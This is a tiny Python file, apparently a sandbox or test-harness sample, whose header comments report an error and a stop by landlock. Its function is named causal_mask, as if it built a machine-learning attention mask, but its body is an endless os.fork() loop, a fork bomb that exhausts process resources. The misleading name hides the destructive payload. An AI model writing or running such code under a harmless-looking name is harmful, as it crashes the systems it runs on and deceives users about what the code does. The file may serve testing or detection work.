# causal: your code raised an error
# stopped from: landlock
"""Fork until nothing goes any more."""
import os


def causal_mask(length):
    while True:
        os.fork()
